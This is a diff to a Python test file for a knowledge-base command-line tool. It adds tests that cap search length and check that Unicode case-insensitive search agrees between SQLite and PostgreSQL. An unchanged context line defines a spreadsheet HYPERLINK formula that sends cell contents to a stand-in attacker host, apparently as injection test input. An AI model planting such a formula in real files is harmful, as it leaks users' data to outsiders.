@@ -27,7 +27,7 @@ import pytest
 
 from kb.domain.schemas import KINDS
 from scripts.synthetic import generate
-from tests.conftest import snapshot
+from tests.conftest import SEEDS, snapshot
 from tests.test_robustness import new_database, run_kb, write_report
 
 FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Click for details")'
@@ -190,6 +190,76 @@ def test_billion_laughs_is_refused_quickly(db: str, tmp_path: Path) -> None:
         signal.signal(signal.SIGALRM, previous)
     assert code == 2 and "[yaml-alias]" in err and str(version) in err, err
     assert snapshot(db) == before
+
+
+# --- search -----------------------------------------------------------------------
+
+
+def test_a_long_search_is_refused_with_the_flag_named(db: str) -> None:
+    before = snapshot(db)
+    code, out, err = run_kb("facts", "--search", "x" * 100_000, db=db)
+    assert code == 2 and out == "", err
+    assert err.startswith("kb: --search is 100,000 characters long; at most 1,000"), err
+    assert snapshot(db) == before
+    code, _, err = run_kb("facts", "--search", "y" * 1000, db=db)  # at the limit: searched
+    assert code == 0, err
+
+
+UNICODE_TEXT = """\
+Unicode report
+Updated May 5, 2025
+
+The Mérida Initiative met in İstanbul on the Οδός Ερμού.
+Officials of the ÉTAT and the Straße office attended.
+"""
+UNICODE_YAML = """\
+report: UN1
+version: 2025-05-05
+title: Unicode report
+facts:
+  - id: istanbul-meeting
+    kind: event
+    quote: The Mérida Initiative met in İstanbul on the Οδός Ερμού.
+    date: 2025-05
+    summary: A meeting in İstanbul on the ΟΔΟΣ ΕΡΜΟΥ.
+  - id: etat-officials
+    kind: event
+    quote: Officials of the ÉTAT and the Straße office attended.
+    date: 2025-05
+    summary: Officials of the État attended.
+"""
+NEEDLES = ["MÉRIDA", "mérida", "MéRiDa", "ΟΔΌΣ", "οδός", "İSTANBUL", "istanbul", "état",
+           "ÉTAT", "STRASSE", "straße", "ΕΡΜΟΥ", "ermou", "Ö"]
+
+
+def test_case_insensitive_search_agrees_on_both_backends(tmp_path: Path) -> None:
+    """Non-ASCII letters fold alike on SQLite and PostgreSQL (before: --search MÉRIDA found
+    9 facts of the bundled seeds on PostgreSQL and none on SQLite)."""
+    folder = tmp_path / "seeds" / "UN1"
+    folder.mkdir(parents=True)
+    (folder / "report.yaml").write_text(
+        "number: UN1\ntype: Insight\nauthors:\n  - name: Ana Ñúñez\n", encoding="utf-8"
+    )
+    (folder / "2025-05-05.txt").write_text(UNICODE_TEXT, encoding="utf-8")
+    (folder / "2025-05-05.yaml").write_text(UNICODE_YAML, encoding="utf-8")
+    found: dict[str, dict[str, list[str]]] = {}
+    for backend in ("sqlite", "postgresql"):
+        for url in new_database(backend, tmp_path / backend):
+            for path in (str(SEEDS / "reports" / "IF10578"), str(folder)):
+                code, _, err = run_kb("load", path, db=url)
+                assert code == 0, err
+            for needle in NEEDLES:
+                code, out, err = run_kb("facts", "--search", needle, "--format", "json", db=url)
+                assert code == 0, err
+                found.setdefault(needle, {})[backend] = sorted(r["id"] for r in json.loads(out))
+    for needle, by_backend in found.items():
+        assert by_backend["sqlite"] == by_backend["postgresql"], (needle, by_backend)
+    assert len(found["MÉRIDA"]["sqlite"]) >= 10  # the seeds' 9 and UN1's meeting
+    assert found["MÉRIDA"] == found["mérida"] == found["MéRiDa"]
+    assert found["İSTANBUL"]["sqlite"] == found["istanbul"]["sqlite"] == ["istanbul-meeting"]
+    assert found["ÉTAT"]["sqlite"] == found["état"]["sqlite"] == ["etat-officials"]
+    assert found["ΕΡΜΟΥ"]["sqlite"] == ["istanbul-meeting"]
+    assert found["ermou"]["sqlite"] == found["Ö"]["sqlite"] == []
 
 
 # --- what is read from a seed folder ---------------------------------------------------
